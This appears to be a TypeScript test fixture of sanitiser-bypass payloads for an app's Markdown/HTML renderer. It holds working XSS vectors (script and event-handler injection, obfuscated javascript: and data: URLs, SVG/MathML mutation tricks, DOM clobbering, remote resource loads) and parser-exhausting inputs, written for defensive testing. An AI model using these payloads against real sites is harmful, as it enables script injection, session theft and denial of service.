// Texts that try to run a script, to reach a server, or to bring something onto the page that is not on
// the allow list. They are rendered in Chromium and in the window's own web view.
//
// Each payload that runs calls `ran('name')`; each that reaches out asks the host that is handed in.

export interface Payload {
  readonly name: string;
  /** Typed as Markdown, and put before the sanitiser as HTML. */
  readonly text: string;
}

type Row = readonly [name: string, text: string];

export function payloads(host: string): readonly Payload[] {
  const rows: readonly Row[] = [
    ...scripts(host),
    ...handlers(),
    ...addresses(),
    ...foreign(),
    ...documents(host),
    ...styles(host),
    ...forms(host),
    ...clobbering(),
    ...markdown(host),
    ...loading(host),
    ...shapes(),
  ];
  return rows.map(([name, text]) => ({ name, text }));
}

const run = `top.ran('payload')`;

function scripts(host: string): readonly Row[] {
  return [
    ['script', `<script>${run}</script>`],
    ['script in capitals', `<SCRIPT>${run}</SCRIPT>`],
    ['script with a slash', `<script/x>${run}</script/x>`],
    ['script from elsewhere', `<script src="${host}/a.js"></script>`],
    ['script split', `<scr<script>ipt>${run}</scr</script>ipt>`],
    ['script unclosed', `<script>${run}`],
    ['script after a comment', `<!--><script>${run}</script>-->`],
    ['script in a comment', `<!-- --!><script>${run}</script>`],
    ['script in noscript', `<noscript><p title="</noscript><script>${run}</script>"></noscript>`],
    ['script in a title', `<title><script>${run}</script></title>`],
    ['script in xmp', `<xmp><script>${run}</script></xmp>`],
    ['script in plaintext', `<plaintext><script>${run}</script>`],
    ['script module', `<script type="module">${run}</script>`],
    ['import', `<link rel="modulepreload" href="${host}/m.js"><link rel=import href="${host}/i">`],
    ['null byte', `<scr\u0000ipt>${run}</scr\u0000ipt>`],
    ['processing instruction', `<?xml-stylesheet href="javascript:${run}"?>`],
    ['cdata', `<![CDATA[<script>${run}</script>]]>`],
    ['doctype', `<!DOCTYPE html [<!ENTITY x "<script>${run}</script>">]>&x;`],
  ];
}

function handlers(): readonly Row[] {
  return [
    ['img onerror', `<img src=x onerror="${run}">`],
    ['img onerror without quotes', `<img src=x onerror=${run}>`],
    ['img with slashes', `<img/src='x'/onerror="${run}"/>`],
    ['img with a backtick', `<img src=x onerror=\`${run}\`>`],
    ['img with a newline', `<img src=x\nonerror="${run}">`],
    ['img with a form feed', `<img src=x\fonerror="${run}">`],
    ['img with an entity', `<img src=x onerror="&#116;op.ran('payload')">`],
    ['broken img', `<IMG """><SCRIPT>${run}</SCRIPT>">`],
    ['image', `<image src=x onerror="${run}">`],
    ['body onload', `<body onload="${run}">`],
    ['details ontoggle', `<details open ontoggle="${run}">x</details>`],
    ['input autofocus', `<input autofocus onfocus="${run}">`],
    ['video source', `<video><source onerror="${run}"></video>`],
    ['audio', `<audio src=x onerror="${run}">`],
    ['marquee', `<marquee onstart="${run}">x</marquee>`],
    ['animation', `<b style="animation:spin 1s" onanimationstart="${run}">x</b>`],
    ['transition', `<a id=x tabindex=1 style="transition:outline 1s" ontransitionend="${run}">x</a>`],
    ['focus by tabindex', `<p tabindex=0 autofocus onfocus="${run}">x</p>`],
    ['popover', `<button popovertarget=x>y</button><p popover id=x onbeforetoggle="${run}">x</p>`],
    [
      'content visibility',
      `<p style="content-visibility:auto" oncontentvisibilityautostatechange="${run}">x</p>`,
    ],
    ['allowed element', `<a href="https://a.example" onmouseover="${run}" onclick="${run}">x</a>`],
    [
      'allowed table',
      `<table onmouseover="${run}" background="javascript:${run}"><tr><td>x</td></tr></table>`,
    ],
    ['custom element', `<x-y onfocus="${run}" tabindex=1 autofocus is="z">x</x-y>`],
    ['is attribute', `<p is="x-y" slot="a" part="b" itemid="c">x</p>`],
  ];
}

function addresses(): readonly Row[] {
  return [
    ['javascript', `<a href="javascript:${run}">x</a>`],
    ['javascript in mixed case', `<a href="JaVaScRiPt:${run}">x</a>`],
    ['javascript with a tab', `<a href="java\tscript:${run}">x</a>`],
    ['javascript with a newline', `<a href="java\nscript:${run}">x</a>`],
    ['javascript with entities', `<a href="&#106;&#97;vascript&colon;${run}">x</a>`],
    ['javascript with long entities', `<a href="&#0000106avascript:${run}">x</a>`],
    ['javascript with hex entities', `<a href="&#x6A;avascript:${run}">x</a>`],
    ['javascript with newline entities', `<a href="java&NewLine;script&Tab;:${run}">x</a>`],
    ['javascript after control characters', `<a href="\u0001\u0002 javascript:${run}">x</a>`],
    ['javascript after a no-break space', `<a href="\u00a0javascript:${run}">x</a>`],
    ['javascript as a letter of mail', `<a href="mailto:a@b.c%0ajavascript:${run}">x</a>`],
    ['javascript after https', `<a href="https://a.example/%0ajavascript:${run}">x</a>`],
    ['vbscript', `<a href="vbscript:msgbox(1)">x</a>`],
    ['data of html', `<a href="data:text/html,<script>${run}</script>">x</a>`],
    ['data in base64', `<a href="data:text/html;base64,PHNjcmlwdD50b3AucmFuKDEpPC9zY3JpcHQ+">x</a>`],
    ['blob', `<a href="blob:https://a.example/1">x</a>`],
    ['file', `<a href="file:///etc/passwd">x</a>`],
    ['own scheme', `<a href="tauri://localhost/index.html">x</a><a href="ipc://localhost/call">y</a>`],
    ['relative', `<a href="//a.example">x</a><a href="/x">y</a><a href="?x">z</a><a href="#x">w</a>`],
    ['xlink', `<a xlink:href="javascript:${run}">x</a>`],
    ['ping', `<a href="https://a.example" ping="https://b.example" download target=_top>x</a>`],
    ['area', `<map name=m><area href="javascript:${run}" shape=default></map>`],
  ];
}

/** SVG, MathML, and the mutations in which what was harmless is parsed again as something else. */
function foreign(): readonly Row[] {
  return [
    ['svg onload', `<svg onload="${run}">`],
    ['svg with slashes', `<svg/onload=${run}>`],
    ['svg script', `<svg><script>${run}</script></svg>`],
    ['svg script by entity', `<svg><script>&#116;op.ran('payload')</script></svg>`],
    [
      'svg animate',
      `<svg><a><animate attributeName=href values="javascript:${run}" /><text>x</text></a></svg>`,
    ],
    ['svg set', `<svg><set attributeName="onmouseover" to="${run}"/></svg>`],
    ['svg use', `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"/></svg>`],
    ['svg foreign object', `<svg><foreignObject><img src=x onerror="${run}"></foreignObject></svg>`],
    ['svg style', `<svg><style><img src=x onerror="${run}"></style></svg>`],
    ['svg p style', `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`],
    ['svg title', `<svg><title><img src=x onerror="${run}"></title></svg>`],
    ['svg desc', `<svg><desc><style><a title="</style><img src=x onerror=${run}>"></desc></svg>`],
    ['math style', `<math><mtext><style><img src=x onerror="${run}"></style></mtext></math>`],
    ['math link', `<math href="javascript:${run}">x</math>`],
    [
      'math table',
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    ],
    [
      'math malignmark',
      `<math><mi><table><malignmark><xmp><img src=x onerror=${run}></xmp></malignmark></table></mi></math>`,
    ],
    ['form in form', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`],
    [
      'annotation',
      `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></math>`,
    ],
    ['noembed', `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`],
    ['template', `<template><script>${run}</script></template>`],
    [
      'templates within templates',
      `<template><template><p><template><img src=x onerror=${run}></template></p></template></template>`,
    ],
    [
      'declarative shadow root',
      `<p><template shadowrootmode="open"><img src=x onerror=${run}></template></p>`,
    ],
    ['select', `<select><style></select><img src=x onerror=${run}></style>`],
    [
      'selected content',
      `<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=${run}></select>`,
    ],
    [
      'table foster parent',
      `<table><a href="javascript:${run}"><tr><td>x</td></tr><img src=x onerror=${run}></table>`,
    ],
    ['textarea', `<textarea></textarea><img src=x onerror=${run}></textarea>`],
    ['deep mutation', `${'<div>'.repeat(505)}<svg><style><a title="</style><img src onerror=${run}>">`],
  ];
}

function documents(host: string): readonly Row[] {
  return [
    ['iframe', `<iframe src="javascript:${run}"></iframe>`],
    ['iframe from elsewhere', `<iframe src="${host}/frame"></iframe>`],
    ['iframe srcdoc', `<iframe srcdoc="<script>${run}</script>"></iframe>`],
    ['iframe srcdoc by entities', `<iframe srcdoc="&lt;img src=x onerror=${run}&gt;"></iframe>`],
    ['frameset', `<frameset onload="${run}"><frame src="javascript:${run}"></frameset>`],
    [
      'fenced frame',
      `<fencedframe src="${host}/fenced"></fencedframe><portal src="${host}/portal"></portal>`,
    ],
    ['object', `<object data="javascript:${run}"></object><object data="${host}/object"></object>`],
    ['embed', `<embed src="javascript:${run}"><embed src="${host}/embed">`],
    ['applet', `<applet code="x" archive="${host}/applet"></applet>`],
    ['base', `<base href="${host}/">`],
    ['meta refresh', `<meta http-equiv="refresh" content="0;url=${host}/refresh">`],
    ['meta refresh to a script', `<meta http-equiv="refresh" content="0;url=javascript:${run}">`],
    ['meta cookie', `<meta http-equiv="Set-Cookie" content="a=b">`],
    ['meta policy', `<meta http-equiv="Content-Security-Policy" content="default-src *">`],
  ];
}

function styles(host: string): readonly Row[] {
  return [
    ['style', `<style>@import "${host}/style.css"; * { background: url(${host}/background) }</style>`],
    ['style attribute', `<p style="background:url(${host}/attribute)">x</p>`],
    ['style over the page', `<p style="position:fixed;inset:0;z-index:9999">x</p>`],
    ['style expression', `<p style="width:expression(${run});-moz-binding:url(${host}/xbl)">x</p>`],
    ['stylesheet', `<link rel="stylesheet" href="${host}/sheet.css">`],
    ['prefetch', `<link rel="prefetch dns-prefetch preconnect" href="${host}/prefetch">`],
    ['class', `<p class="toast dialog">x</p><a class="primary" href="https://a.example">y</a>`],
    ['font', `<font face="x" color="red" size="7">x</font><center>y</center><blink>z</blink>`],
    ['background', `<table background="${host}/table"><tr><td background="${host}/cell">x</td></tr></table>`],
  ];
}

function forms(host: string): readonly Row[] {
  return [
    ['form', `<form action="${host}/form"><input name=a value=b><button>Go</button></form>`],
    ['form to a script', `<form action="javascript:${run}"><input type=submit></form>`],
    ['formaction', `<button formaction="javascript:${run}">x</button>`],
    ['image button', `<input type="image" src="${host}/button" formaction="${host}/go">`],
    ['isindex', `<isindex action="javascript:${run}" type=image>`],
    ['keygen', `<keygen autofocus onfocus="${run}">`],
    ['editable', `<p contenteditable autofocus onfocus="${run}">x</p>`],
    ['dialog', `<dialog open>Type your password</dialog>`],
    ['checkbox', `<input type=checkbox checked>`],
  ];
}

function clobbering(): readonly Row[] {
  return [
    ['id of a global', `<a id="bridge" href="https://a.example">x</a><p id="__TAURI_INTERNALS__">y</p>`],
    ['name of a global', `<img name="getElementById"><form name="body"><input name="attributes"></form>`],
    ['nested ids', `<a id=config></a><a id=config name=url href="https://a.example">x</a>`],
    ['attributes', `<form id=x><input id=attributes><input name=parentNode><input name=childNodes></form>`],
    ['node name', `<form onmouseover="${run}"><input name="nodeName"><input name="removeAttribute"></form>`],
    ['data and aria', `<p data-bits-id="x" aria-hidden="true" role="alert" accesskey="n">x</p>`],
    ['prototype', `<a id="__proto__" name="constructor">x</a>`],
  ];
}

function markdown(host: string): readonly Row[] {
  return [
    ['link to a script', `[x](javascript:${run})`],
    ['link with capitals', `[x](JAVASCRIPT:alert)`],
    ['link with entities', `[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert)`],
    ['link with a colon entity', `[x](javascript&colon;alert)`],
    ['link with a newline entity', `[x](java&#10;script:alert)`],
    ['link in brackets', `[x](<javascript:${run}>)`],
    ['link with escapes', `[x](java\\script:alert) [y](javas&#99;ript:alert) [z](javascript%3Aalert)`],
    ['link with a space', `[x]( javascript:alert)`],
    ['link that closes its attribute', `[x](https://a.example/"onmouseover="${run})`],
    ['link with a title that closes it', `[x](https://a.example "\\" onmouseover=${run} \\"")`],
    ['link with markup in it', `[<img src=x onerror="${run}">](https://a.example)`],
    ['link with a link in it', `[a [b](https://b.example) c](https://a.example)`],
    ['link by reference', `[x][r]\n\n[r]: javascript:${run} "t"`],
    ['link by itself', `<javascript:${run}> <data:text/html,x> javascript:alert(1)`],
    ['letter', `<x@y.z"onmouseover=${run}>`],
    ['data link', `[x](data:text/html;base64,PHNjcmlwdD50b3AucmFuKDEpPC9zY3JpcHQ+)`],
    ['image', `![alt](${host}/image.png)`],
    ['image with a title', `![alt](${host}/titled.png "x\\" onerror=${run}")`],
    ['image with an alt that closes it', `![" onerror="${run}](${host}/alt.png)`],
    ['image in a link', `[![alt](${host}/linked.png)](https://a.example)`],
    ['image to a script', `![x](javascript:${run})`],
    ['image of data', `![x](data:image/svg+xml,<svg onload="${run}">)`],
    ['image by reference', `![x][i]\n\n[i]: ${host}/reference.png`],
    ['image of svg', `![x](${host}/x.svg#onload=alert)`],
    ['fence with a language', `\`\`\`"><img src=x onerror="${run}">\n<script>${run}</script>\n\`\`\``],
    ['code', `\`<script>${run}</script>\``],
    ['heading', `# <a id="x" onclick="${run}">h</a>\n\n# constructor`],
    ['table', `|<img src=x onerror="${run}">|b|\n|:-|-:|\n|[x](javascript:alert)|<b onclick="${run}">c</b>|`],
    ['task', `- [x] <input onfocus="${run}" autofocus>\n- [ ] open`],
    ['html around markdown', `<div>\n\n**b** <script>${run}</script>\n\n</div>`],
    ['comment', `<!-- **x** --> <script>${run}</script>`],
    ['backslashes', `\\<script>${run}\\</script>`],
    ['mixed', `*<img src=x onerror="${run}">*__[a](javascript:alert)__~~<svg onload="${run}">~~`],
  ];
}

function loading(host: string): readonly Row[] {
  return [
    ['img', `<img src="${host}/img">`],
    ['img srcset', `<img srcset="${host}/srcset 2x" sizes=1px>`],
    ['picture', `<picture><source srcset="${host}/picture"><img></picture>`],
    ['video', `<video src="${host}/video" poster="${host}/poster" autoplay></video>`],
    ['audio from elsewhere', `<audio src="${host}/audio" autoplay></audio>`],
    ['track', `<video><track default src="${host}/track"></video>`],
    ['svg image', `<svg><image href="${host}/svg-image"/><feImage href="${host}/fe"/></svg>`],
    ['input image', `<input type=image src="${host}/input">`],
    ['body background', `<body background="${host}/body">`],
    ['lazy', `<img loading=lazy src="${host}/lazy"><iframe loading=lazy src="${host}/lazy-frame"></iframe>`],
    ['attribution', `<a href="https://a.example" attributionsrc="${host}/attribution">x</a>`],
  ];
}

/** Texts that would exhaust a stack or hold up the window. */
function shapes(): readonly Row[] {
  return [
    ['quotes within quotes', '> '.repeat(10_000) + 'x'],
    ['lists within lists', '- '.repeat(5_000) + 'x'],
    ['elements within elements', '<b>'.repeat(10_000) + 'x'],
    ['brackets', '['.repeat(50_000)],
    ['links unclosed', '[a]('.repeat(15_000)],
    ['stars', '*a_'.repeat(20_000)],
    ['underscores', '_a'.repeat(30_000)],
    ['stars in one short block', '*a_'.repeat(2_700)],
    ['backticks', '`a``'.repeat(15_000)],
    ['angles', '<a '.repeat(20_000)],
    ['entities', '&lt;script&gt;'.repeat(3_000)],
    ['long line', 'x'.repeat(64_000)],
  ];
}
